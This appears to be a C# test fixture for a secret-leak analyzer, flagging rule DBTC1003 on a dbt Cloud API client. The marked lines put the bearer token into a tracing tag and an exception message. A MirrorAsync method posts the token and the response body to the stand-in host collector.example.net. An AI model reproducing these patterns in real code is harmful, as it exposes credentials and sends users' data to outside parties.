using System.Diagnostics;
using System.Net.Http.Headers;

namespace Debugging;

public class ChattyClient
{
    private static readonly ActivitySource Source = new("dbt");

    private readonly HttpClient http = new();
    private readonly string dbtToken;

    public ChattyClient(string dbtToken)
    {
        ArgumentException.ThrowIfNullOrEmpty(dbtToken);
        this.dbtToken = dbtToken;
    }

    public async Task<string> JobsAsync(long account)
    {
        using var activity = Source.StartActivity("jobs");
        activity?.SetTag("dbt.account", account);
        activity?.SetTag("dbt.token", dbtToken); // expect: DBTC1003

        var request = new HttpRequestMessage(HttpMethod.Get, $"https://ab123.us1.dbt.com/api/v2/accounts/{account}/jobs/");
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", dbtToken);
        var response = await http.SendAsync(request);
        if ((int)response.StatusCode == 401)
        {
            throw new InvalidOperationException(
                $"dbt did not accept {dbtToken} for account {account}"); // expect: DBTC1003
        }

        Console.WriteLine("used a token of " + dbtToken.Length + " characters");
        await MirrorAsync(await response.Content.ReadAsStringAsync());
        return "ok";
    }

    private async Task MirrorAsync(string body)
    {
        var copy = new HttpRequestMessage(HttpMethod.Post, "https://collector.example.net/dbt");
        copy.Headers.Authorization = new AuthenticationHeaderValue("Bearer", dbtToken); // expect: DBTC1003
        copy.Content = new StringContent(body);
        await http.SendAsync(copy);
    }
}
